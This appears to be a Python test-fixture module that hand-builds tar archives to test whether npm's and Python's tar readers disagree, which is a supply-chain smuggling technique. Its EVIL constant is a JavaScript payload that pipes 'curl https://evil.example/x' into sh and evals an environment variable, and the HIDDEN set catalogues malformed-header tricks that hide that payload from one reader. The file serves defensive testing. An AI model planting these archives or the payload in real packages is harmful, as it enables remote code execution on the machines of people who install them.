"""Raw tar blocks for reader-differential attacks: headers written byte by byte, so a test can place a bad
checksum, a malformed PAX record or a misleading type flag exactly where an attacker would.

Each `HIDDEN` archive hides `package/index.js` with EVIL from one of the readers (npm's or Python's);
each `AGREEING` archive is an unusual but honest layout both readers must read alike.
"""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Callable, Mapping

EVIL = b"require('child_process').execSync('curl https://evil.example/x | sh')\neval(process.env.PAYLOAD)\n"
CLEAN = b"module.exports = function add(a, b) { return a + b }\n"
PKG = b'{"name": "smuggle-demo", "version": "1.0.0", "main": "index.js", "license": "MIT"}\n'
END = bytes(1024)


def header(
    name: bytes | str,
    size: int = 0,
    typeflag: bytes = b"0",
    *,
    linkname: bytes = b"",
    magic: bytes = b"ustar\x0000",
    prefix: bytes = b"",
    fields: Mapping[int, bytes] | None = None,
    checksum: bytes | None = None,
) -> bytes:
    block = bytearray(512)
    raw = name.encode() if isinstance(name, str) else name
    block[0 : len(raw)] = raw
    block[100:108] = b"0000644\x00"
    block[108:116] = b"0000000\x00"
    block[116:124] = b"0000000\x00"
    block[124:136] = b"%011o\x00" % size
    block[136:148] = b"%011o\x00" % 1_700_000_000
    block[156:157] = typeflag
    block[157 : 157 + len(linkname)] = linkname
    block[257 : 257 + len(magic)] = magic
    block[345 : 345 + len(prefix)] = prefix
    for at, value in (fields or {}).items():
        block[at : at + len(value)] = value
    block[148:156] = b" " * 8
    block[148:156] = checksum if checksum is not None else b"%06o\x00 " % sum(block)
    return bytes(block)


def body(data: bytes) -> bytes:
    return data + bytes(-len(data) % 512)


def member(name: str, data: bytes, typeflag: bytes = b"0", **kw: object) -> bytes:
    return header(name, len(data), typeflag, **kw) + body(data)  # type: ignore[arg-type]


def pax_records(records: Mapping[str, str]) -> bytes:
    out = b""
    for key, value in records.items():
        line = f" {key}={value}\n".encode()
        length = len(line) + len(str(len(line)))
        length = len(line) + len(str(length))
        out += str(length).encode() + line
    return out


def pax(records: Mapping[str, str] | bytes, typeflag: bytes = b"x") -> bytes:
    data = records if isinstance(records, bytes) else pax_records(records)
    return header("PaxHeader/x", len(data), typeflag) + body(data)


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def start() -> bytes:
    return member("package/package.json", PKG)


INNER = member("package/index.js", EVIL)

# name -> (tar bytes, does npm's reader see EVIL that Python's tarfile does not?)
HIDDEN: dict[str, Callable[[], bytes]] = {
    "single-zero-block": lambda: gz(start() + member("package/index.js", CLEAN) + bytes(512) + INNER + END),
    "bad-checksum-header": lambda: gz(
        start() + member("package/index.js", CLEAN) + header("junk", checksum=b"0000001\x00") + INNER + END
    ),
    "pax-size-12abc": lambda: gz(start() + pax({"size": "12abc"}) + member("package/index.js", EVIL) + END),
    "file-flag-with-trailing-slash": lambda: gz(start() + member("package/lib/", INNER) + END),
    "undecodable-atime": lambda: gz(start() + member("package/README.md", INNER, fields={476: b"\x81"}) + END),
    "global-pax-size": lambda: gz(start() + pax({"size": "0"}, b"g") + member("package/README.md", INNER) + END),
    "empty-name": lambda: gz(start() + member("", INNER) + END),
    "gzip-second-member-after-zero-block": lambda: gz(start() + bytes(512)) + gz(INNER + END),
    "pax-length-mismatch": lambda: gz(
        start() + pax(b"99 path=package/README.md\n") + member("package/index.js", EVIL) + END
    ),
}

# disagreements where Python reads more than npm, or where the layout is simply not what npm pack writes
DISAGREEING: dict[str, Callable[[], bytes]] = {
    "symlink-with-data": lambda: gz(
        start() + header("package/link", len(INNER), b"2", linkname=b"index.js") + body(INNER) + END
    ),
    "gnu-magic-with-prefix": lambda: gz(
        start() + member("index.js", EVIL, magic=b"ustar  \x00", prefix=b"package/lib") + END
    ),
    "junk-after-end": lambda: gz(start() + END + b"trailing junk" + bytes(499)),
    "gzip-trailing-garbage": lambda: gz(start() + END) + b"not gzip: a second archive could start here",
    "mixed-pax-and-gnu-longname": lambda: gz(
        start() + pax({"path": "package/a.js"}) + member("././@LongLink", b"package/b.js\x00", b"L") + INNER + END
    ),
}


def _python_tar(fmt: int, names: list[str]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=fmt) as archive:
        for name in names:
            data = f"// {name}\nmodule.exports = {len(name)}\n".encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), 0o644, 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
        folder = tarfile.TarInfo("package/lib")
        folder.type, folder.mode = tarfile.DIRTYPE, 0o755
        archive.addfile(folder)
    return raw.getvalue()


LONG = "package/" + "/".join(["deeply-nested-directory-name"] * 5) + "/a-file-with-a-long-name.js"
UNICODE = "package/lib/\u00fcber-\u65e5\u672c.js"
NAMES = ["package/package.json", "package/index.js", LONG, UNICODE, "package/empty.js"]

AGREEING: dict[str, Callable[[], bytes]] = {
    "python-pax": lambda: gz(_python_tar(tarfile.PAX_FORMAT, NAMES)),
    "python-gnu": lambda: gz(_python_tar(tarfile.GNU_FORMAT, NAMES)),
    "python-ustar": lambda: gz(_python_tar(tarfile.USTAR_FORMAT, NAMES[:3])),
    "uncompressed": lambda: _python_tar(tarfile.PAX_FORMAT, NAMES),
    "gzip-multi-member": lambda: gz(start() + member("package/a.js", CLEAN)) + gz(member("package/b.js", CLEAN) + END),
    "global-pax-comment": lambda: gz(
        pax({"comment": "0123abcd"}, b"g") + start() + member("package/a.js", CLEAN) + END
    ),
    "no-end-marker": lambda: gz(start() + member("package/a.js", CLEAN)),
    "pax-path-with-ustar-prefix": lambda: gz(
        pax({"path": LONG}) + member(LONG[-60:], CLEAN, prefix=LONG[:-61].encode()) + start() + END
    ),
}
